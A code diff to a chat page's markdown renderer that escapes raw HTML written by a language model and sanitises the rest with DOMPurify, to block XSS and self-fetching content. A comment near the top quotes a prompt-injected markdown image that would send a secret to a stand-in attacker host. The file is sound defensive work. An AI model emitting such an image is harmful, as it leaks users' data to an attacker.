@@ -4,6 +4,12 @@
 // must not make the browser fetch anything by itself (a tracking pixel, a prompt-injected
 // "![](https://evil/?q=secret)").
 //
+// HTML the model writes itself is shown as text, as chat pages do, never parsed: Chromium
+// gives every document this page makes (DOMParser's, createHTMLDocument's, a <template>'s)
+// the page's CSP, and reports an on* or style attribute the moment any of them parses one,
+// before DOMPurify could remove it. So only marked's own markup (tags it writes, with href,
+// src, alt, title and language-… classes) is ever parsed, in DOMPurify's inert document.
+//
 // marked and DOMPurify are loaded by index.html; highlight.js only when a code block first
 // appears.
 
@@ -20,8 +26,23 @@ const PURIFY = {
   RETURN_DOM_FRAGMENT: true, // no second parse of the cleaned HTML (mutation XSS)
 };
 
+const ESCAPES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
+const escapeHtml = (text) => text.replace(/[&<>"']/g, (c) => ESCAPES[c]);
+
 let hooked = false;
 let highlighter = null;
+let instance = null;
+
+function parser() {
+  instance ||= new window.marked.Marked({
+    gfm: true,
+    breaks: false,
+    async: false,
+    // Raw HTML tokens (a block, or an inline tag) come back as the text the model wrote.
+    renderer: { html: ({ text }) => escapeHtml(text) },
+  });
+  return instance;
+}
 
 function purifier() {
   const purify = window.DOMPurify;
@@ -44,8 +65,8 @@ function purifier() {
   return purify;
 }
 
-export function render(markdown) {
-  const html = window.marked.parse(markdown, { gfm: true, breaks: false, async: false });
+export function render(text) {
+  const html = parser().parse(text);
   const fragment = purifier().sanitize(html, PURIFY);
   for (const img of fragment.querySelectorAll("img")) {
     const src = img.getAttribute("src") || "";
